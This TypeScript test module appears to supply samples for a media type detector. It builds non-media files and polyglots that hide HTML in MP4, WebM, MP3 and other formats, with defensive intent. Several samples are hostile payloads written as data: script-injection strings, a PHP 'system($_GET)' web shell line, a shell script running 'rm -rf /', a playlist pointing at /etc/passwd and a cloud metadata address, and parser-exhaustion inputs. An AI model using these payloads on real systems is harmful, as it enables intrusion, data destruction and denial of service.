import { gzipSync } from 'node:zlib'
import { bytesOf, utf8 } from '../request.ts'

/** What it is, and its bytes. */
export type Sample = readonly [name: string, content: Buffer]

/** A box of MP4: its length, its four letters, its content. */
function box(kind: string, content: Buffer | string): Buffer {
  const bytes = bytesOf(content)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(bytes.length + 8)
  head.write(kind, 4, 'latin1')
  return Buffer.concat([head, bytes])
}

const SCRIPT = '<script>alert(document.domain)</script>'
export const HTML: string = `<!doctype html><html>${SCRIPT}`
export const SVG: string = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const FTYP = box('ftyp', 'isom\0\0\x02\0isommp42')
const GIF = Buffer.from(
  '47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b',
  'hex',
)
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de', 'hex')
const ZIP = Buffer.from('504b0304140000000000000000000000000000000000000000000900000061', 'hex')
const EBML = Buffer.from(
  '1a45dfa3a34286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff',
  'hex',
)

const text = (content: string) => bytesOf(content)
const padded = (...pieces: readonly (Buffer | string)[]) =>
  Buffer.concat([
    ...pieces.map((piece) => (typeof piece === 'string' ? text(piece) : piece)),
    Buffer.alloc(5000, ' '),
  ])

/** No media, whatever they are called: refused by the default list. */
export const NO_MEDIA: readonly Sample[] = [
  ['HTML', text(HTML)],
  ['HTML after spaces', padded(' '.repeat(5000), HTML)],
  ['HTML after a byte order mark', text(`\xef\xbb\xbf${HTML}`)],
  ['HTML in UTF-16', Buffer.from(`\ufeff${HTML}`, 'utf16le')],
  ['HTML in UTF-7', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['HTML of a kilobyte of comment', text(`<!--${'-'.repeat(1000)}-->${HTML}`)],
  ['XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`)],
  ['SVG', text(SVG)],
  ['SVG after a declaration', text(`<?xml version="1.0"?><!DOCTYPE svg>${SVG}`)],
  [
    'XML with an entity bomb',
    text(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'a'.repeat(1000)}">]><x>&a;&a;</x>`),
  ],
  ['XML with a stylesheet', text('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/x"?><x/>')],
  ['JavaScript', text('alert(1)//')],
  ['JSON', text('{"a":1}')],
  ['CSS', text('@import url(http://evil.example/)')],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['PHP', text('<?php system($_GET["x"]); ?>')],
  ['an ELF', Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(5000)])],
  ['an EXE', padded('MZ\x90\0\x03\0\0\0')],
  ['a JAR behind a GIF', Buffer.concat([GIF, ZIP])],
  ['a GIF that is JavaScript', text('GIF89a/*\0\0\0\0*/=1;alert(1)')],
  ['a PNG with HTML behind', Buffer.concat([PNG, text(HTML)])],
  ['a PDF with JavaScript', text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
  ['a PDF behind HTML', text(`${HTML}\n%PDF-1.7`)],
  ['a ZIP', padded(ZIP)],
  ['a gzip', Buffer.concat([text('\x1f\x8b\x08\0'), Buffer.alloc(5000)])],
  // file-type looks for a tar in it.
  ['a gzip of 3 MB of zeros', gzipSync(Buffer.alloc(3_000_000))],
  ['a Flash film', padded('FWS\x0a\0\0\0\0')],
  ['a WebAssembly module', text('\0asm\x01\0\0\0')],
  [
    'an HTML component of MIME',
    text(`MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n\r\n${HTML}`),
  ],
  ['a playlist', text('#EXTM3U\n#EXT-X-MEDIA:URI="file:///etc/passwd"\nhttp://169.254.169.254/')],
  ['nothing', Buffer.alloc(0)],
  ['one byte', text('x')],
  ['one zero byte', Buffer.alloc(1)],
  ['4 KiB of zeros', Buffer.alloc(4096)],
  ['a byte less than 4 KiB of zeros', Buffer.alloc(4095)],
  ['4 KiB of ones', Buffer.alloc(4096, 0xff)],
  ['4 KiB of every byte', Buffer.from(Array.from({ length: 4096 }, (_, at) => at % 256))],
  ['4 KiB of noise', Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 2654435761) >>> 24))],
  ['4 KiB of angle brackets', Buffer.alloc(4096, '<')],
  ['4 KiB of UTF-8', text(utf8('歌'.repeat(1366)))],
  ['half the magic of MP4', FTYP.subarray(0, 6)],
  ['half the magic of WebM', EBML.subarray(0, 3)],
  ['half the magic of Ogg', text('Og')],
  ['a RIFF of nothing', text('RIFF\0\0\0\0')],
]

/** Media by their first bytes, with something else in them. */
export const POLYGLOTS: readonly Sample[] = [
  ['HTML behind a box of MP4', Buffer.concat([FTYP, text(HTML)])],
  ['HTML in a free box of MP4', Buffer.concat([FTYP, box('free', HTML), box('mdat', HTML)])],
  ['HTML as the brand of an MP4', box('ftyp', `isom\0\0\0\0<script>`)],
  ['an MP4 with a box of 2^32 bytes', Buffer.concat([FTYP, text('\xff\xff\xff\xffmoov')])],
  ['an MP4 with a box of no length', Buffer.concat([FTYP, text('\0\0\0\0moov')])],
  ['WebM with HTML behind', Buffer.concat([EBML, text(HTML)])],
  [
    'EBML that nests for ever',
    Buffer.concat(Array.from({ length: 300 }, () => text('\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\0'))),
  ],
  ['an ID3 tag of 256 MB', text('ID3\x04\0\0\x7f\x7f\x7f\x7f')],
  ['ID3 tags in a row', Buffer.concat(Array.from({ length: 400 }, () => text('ID3\x04\0\0\0\0\0\0')))],
  ['an ID3 tag before HTML', text(`ID3\x04\0\0\0\0\0\x05.....${HTML}`)],
  ['a WAV that is JavaScript', text('RIFF=1;/*WAVEfmt */alert(1)')],
  ['an AVI with HTML in it', text(`RIFF\0\0\0\0AVI LIST${HTML}`)],
  ['an Ogg with HTML in it', padded(`OggS\0\x02${'\0'.repeat(20)}\x01\x1e\x01vorbis`, HTML)],
  [
    'an ASF with an object of no length',
    text('\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0'),
  ],
  [
    'an ASF of objects of no length',
    Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(4000)]),
  ],
  [
    'an MPEG stream of sync bytes',
    Buffer.concat(Array.from({ length: 20 }, () => Buffer.concat([text('G'), Buffer.alloc(187)]))),
  ],
  ['an MP3 with HTML in it', padded('\xff\xfb\x90\x64', HTML)],
  ['FLAC with HTML in it', padded('fLaC', HTML)],
  ['QuickTime with HTML in it', Buffer.concat([box('moov', HTML), text(HTML)])],
  ['a PNG of animation', Buffer.concat([PNG, Buffer.alloc(4), box('acTL', 'x').subarray(4)])],
  ['a PNG whose chunks have no length', Buffer.concat([PNG.subarray(0, 8), Buffer.alloc(4000)])],
  ['a TIFF that points at itself', Buffer.from(`49492a0008000000ffff${'0001'.repeat(1000)}`, 'hex')],
  ['a ZIP of entries of no length', Buffer.concat(Array.from({ length: 100 }, () => ZIP))],
]

/** Whatever a type detector may be shown. */
export const SAMPLES: readonly Sample[] = [...NO_MEDIA, ...POLYGLOTS]
